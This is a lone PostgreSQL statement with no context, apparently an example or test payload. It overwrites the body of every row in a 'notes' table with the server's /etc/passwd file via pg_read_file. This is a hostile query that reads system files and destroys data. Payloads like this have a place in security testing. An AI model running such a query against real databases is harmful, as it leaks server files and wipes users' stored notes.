UPDATE notes SET body = pg_read_file('/etc/passwd')
